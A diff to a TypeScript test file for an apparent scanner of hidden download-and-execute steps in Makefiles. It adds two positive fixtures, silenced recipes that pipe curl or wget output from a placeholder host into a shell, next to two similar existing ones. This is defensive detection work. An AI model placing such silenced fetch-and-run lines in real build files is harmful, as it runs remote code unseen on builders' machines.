@@ -17,6 +17,9 @@ const positives: [string, string][] = [
   // a program glued to the prefix that silences its line
   ['src/Makefile.am', 'all-local:\n\t$(AM_V_GEN)wget -qO- https://x.invalid/s | $(SHELL)\n'],
   ['GNUmakefile', "QUIET = @echo '  GEN' $@;\nall:\n\t$(QUIET)bash -c \"$$(curl -fsS https://x.invalid/b)\"\n"],
+  // the recipe on the rule's own line, silenced as one on a line of its own is
+  ['GNUmakefile', 'include Makefile\nall: ; @curl -s http://x.invalid/p | sh\n'],
+  ['Makefile.am', 'all-local: $(srcdir)/x.c ;-$(AM_V_at)wget -qO- https://x.invalid/s | $(SHELL)\n'],
 ]
 
 /** look-alikes: downloads that are not executed, and executions of what was not downloaded */
